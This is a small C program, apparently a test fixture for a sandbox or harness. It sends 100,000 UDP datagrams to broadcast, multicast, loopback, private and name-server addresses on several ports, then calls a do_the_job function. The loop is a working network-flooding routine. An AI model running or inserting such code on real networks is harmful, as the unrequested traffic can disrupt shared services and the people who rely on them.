/* Sends a hundred thousand datagrams to everybody, questions to the name server among them. Then does the job. */

#include "attack.h"

int main(int argc, char **argv)
{
    static const char *addresses[] = { "192.0.2.53", "10.0.0.1", "127.0.0.1", "255.255.255.255", "224.0.0.1" };
    static const int ports[] = { 53, 9, 80, 65535 };
    static char datagram[1400];
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    for (int i = 0; i < 100000; i++) {
        struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(ports[i % 4]) };
        to.sin_addr.s_addr = inet_addr(addresses[i % 5]);
        sendto(fd, datagram, i % sizeof datagram, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof to);
    }
    close(fd);
    return do_the_job(argc, argv);
}
